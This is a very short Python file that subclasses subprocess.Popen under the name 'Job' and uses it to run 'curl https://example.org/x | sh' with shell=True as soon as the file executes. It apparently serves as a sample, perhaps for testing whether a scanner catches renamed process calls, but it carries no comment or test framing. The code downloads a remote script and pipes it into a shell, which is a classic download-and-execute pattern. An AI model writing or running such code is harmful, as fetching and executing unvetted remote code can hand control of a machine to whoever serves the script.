import subprocess


class Job(subprocess.Popen):
    pass


Job("curl https://example.org/x | sh", shell=True)
